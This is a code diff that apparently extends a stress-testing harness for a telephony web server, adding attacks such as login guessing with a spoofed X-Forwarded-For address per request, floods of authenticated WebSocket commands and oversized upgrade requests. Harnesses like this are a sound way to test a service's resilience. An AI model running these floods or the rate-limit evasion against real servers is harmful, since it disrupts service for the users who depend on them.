@@ -187,6 +187,33 @@ async def logs_in(at: Target) -> None:
         await ends(reader)
 
 
+async def logs_in_from_everywhere(at: Target) -> None:
+    """Guess passwords from another address each time, as a proxy says."""
+    body = b'{"login":"%b","password":"wrong"}' % os.urandom(4).hex().encode()
+    head = b"X-Forwarded-For: 10.1.%d.%d\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
+    asked = POST + head % (*os.urandom(2), len(body)) + body
+    async with connected(at.server, asked) as (reader, _):
+        await ends(reader)
+
+
+def commands(*what: bytes) -> Attack:
+    """A logged-in socket that gives commands as fast as it may, for ever."""
+
+    async def attack(at: Target) -> None:
+        async with connected(at.server, upgrade(next(at.tokens))) as (reader, writer):
+            reading = asyncio.create_task(ends(reader))
+            try:
+                for command in cycle(what):
+                    writer.write(frame(TEXT, command))
+                    await writer.drain()
+                    await asyncio.sleep(FASTEST)
+            finally:
+                reading.cancel()
+
+    return attack
+
+
+FASTEST: Final = 0.053
 POST: Final = b"POST /xuc/api/2.0/auth/login HTTP/1.1\r\nHost: x\r\n"
 CHUNKS: Final = b"1\r\nx\r\n" * 1000
 CHUNKED: Final = b"Transfer-Encoding: chunked\r\n\r\n"
@@ -196,6 +223,14 @@ RANGES: Final = b"Range: bytes=" + b",".join(b"%d-%d" % (n, n + 5) for n in rang
 HEADERS: Final = b"a:\r\n" * 3500 + b"\r\n"
 HEARTBEAT: Final = frame(TEXT, b'{"claz":"ping"}')
 COLLEAGUES: Final = frame(TEXT, b'{"claz":"web","command":"getColleagues","words":"a","size":500}')
+SELECTED: Final = [
+    b'{"claz":"web","command":"selectDevice","device":"%b"}' % one for one in (b"webrtc", b"deskphone")
+]
+PREFERRED: Final = (
+    b'{"claz":"web","command":"setUserPreference","key":"a","value_type":"String","value":"%b"}'
+)
+WATCHED: Final = b'{"claz":"web","command":"subscribeToPhoneHints","phoneNumbers":["%b"]}'
+NUMBERS: Final = b'","'.join(b"%d" % number for number in range(1000, 2000))
 ATTACKS: Final[dict[str, Attack]] = {
     "empty pings": floods(frame(PING) * 5000),
     "pings and reads nothing": floods(frame(PING, b"x" * 125) * 500, reads=False),
@@ -235,6 +270,11 @@ ATTACKS: Final[dict[str, Attack]] = {
     "bad handshakes": asks(upgrade("x").replace(b"dGhl", b"dGh"), reads=True),
     "bad origins": asks(upgrade("x", b"Origin: http://[\r\n"), reads=True),
     "log-ins": logs_in,
+    "log-ins from everywhere": logs_in_from_everywhere,
+    "long requests for WebSockets": asks(upgrade("x" * 9000)),
+    "selections that all tabs are shown": commands(*SELECTED),
+    "preferences that all tabs are shown": commands(PREFERRED % (b"x" * 1000)),
+    "numbers to watch": commands(WATCHED % NUMBERS),
     "connect and close": comes_and_goes,
     "enter and vanish": comes_and_goes_by_websocket,
     "silence at the monitor": asks(b"", to_monitor=True),
